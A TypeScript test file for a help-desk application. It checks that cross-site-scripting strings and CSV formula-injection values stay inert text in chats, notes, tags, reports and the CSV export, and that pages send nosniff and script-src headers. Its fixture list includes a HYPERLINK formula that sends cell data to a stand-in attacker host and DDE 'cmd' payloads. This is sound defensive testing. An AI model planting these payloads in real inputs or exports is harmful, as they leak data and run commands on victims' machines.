import type { Chat } from '@desk/protocol/chat';
import type { ClosureRow } from '@desk/protocol/closure';
import type { TagId } from '@desk/protocol/ids';
import type { Note } from '@desk/protocol/note';
import type { TagReport } from '@desk/protocol/report';
import { expect } from 'vitest';
import { test } from '../desk.ts';
import { listen } from '../listener.ts';
import { closeForm, createBusiness } from '../people.ts';
import { until } from '../until.ts';

const HOSTILE = [
  `<script>alert('desk')</script>`,
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  `=HYPERLINK("https://evil.example?"&A1,"click")`,
  "+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|!A0',
  '-2+3',
];

/** RFC 4180, as a spreadsheet reads it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

/** As ticket numbers, which are cut at blanks, commas and bars. */
const TICKETS = ['<b>INC</b>-1', 'INC<script>1', 'a"><i>b', '=1+1', '+7-7', '@SUM(A1)', '-2+3'];

test('[B4] [13.6] markup and formulas stay text as name, message, note, tag and reference: in lists, events, reports and the export', async ({
  desk,
}) => {
  const business = await createBusiness(desk, { tags: [] });
  const agent = await business.person('agent');
  const supervisor = await business.person('supervisor', { at: desk.otherUrl });
  const wall = await listen(supervisor, ['closures']);
  for (const [i, text] of HOSTILE.entries()) {
    const tag = await supervisor.post<{ id: TagId }>('/api/tags', { name: text, meaning: text });
    const customer = await business.customer(text);
    const { chat: opened, message } = await customer.say(text);
    expect(message).toMatchObject({ text, author: { name: text } });
    const chat = await supervisor.post<Chat>(`/api/chats/${opened.id}/assign`, { agentId: agent.id });
    expect(await agent.post<Note>(`/api/customers/${customer.id}/notes`, { text })).toMatchObject({ text });
    const ticket = TICKETS[i]!;
    await agent.post<Chat>(`/api/chats/${chat.id}/close`, closeForm(chat, { note: text, tagIds: [tag.id], references: [ticket] }));
    const heard = await wall.event('chat.closed', ({ chatId }) => chatId === chat.id);
    expect(heard.data.row).toMatchObject(shownAs(text, ticket));
  }
  const { items } = await supervisor.get<{ items: ClosureRow[] }>('/api/closures');
  expect(items).toMatchObject(HOSTILE.map((text, i) => shownAs(text, TICKETS[i]!)).reverse());
  const range = `from=${new Date(Date.now() - 3_600_000).toISOString()}&to=${new Date(Date.now() + 3_600_000).toISOString()}`;
  const report = await until(async () => {
    const tags = await supervisor.get<TagReport>(`/api/reports/tags?${range}`);
    return tags.total === HOSTILE.length && tags;
  });
  expect(report.rows.map(({ tag }) => tag.name).sort()).toEqual([...HOSTILE].sort());

  const csv = await supervisor.send<string>('GET', '/api/closures.csv');
  expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="closures-all.csv"');
  const [head, ...rows] = readCsv(csv.body.replace(/^\ufeff/, ''));
  const harmless = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);
  for (const [i, row] of rows.reverse().entries()) {
    const cells = Object.fromEntries(head!.map((name, column) => [name, row[column]]));
    const text = harmless(HOSTILE[i]!);
    expect(cells).toMatchObject({ Customer: text, Note: text, Tags: text, References: harmless(TICKETS[i]!), Sentiment: 'not set' });
  }
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(rows).toHaveLength(HOSTILE.length);
});

function shownAs(text: string, ticket: string): object {
  return { customer: { name: text }, note: text, tags: [{ name: text }], references: [{ kind: 'ticket', text: ticket, url: null }] };
}

test('[B4] no answer may be taken for a page, and pages run no script but their own', async ({ desk }) => {
  const business = await createBusiness(desk);
  const agent = await business.person('agent');
  for (const path of ['/api/me', '/api/chats', '/api/docs', '/api/nothing', '/']) {
    const { headers } = await agent.send('GET', path);
    expect(headers.get('x-content-type-options'), path).toBe('nosniff');
    expect(headers.get('content-security-policy'), path).toMatch(/script-src 'self'(;|$)/);
  }
});
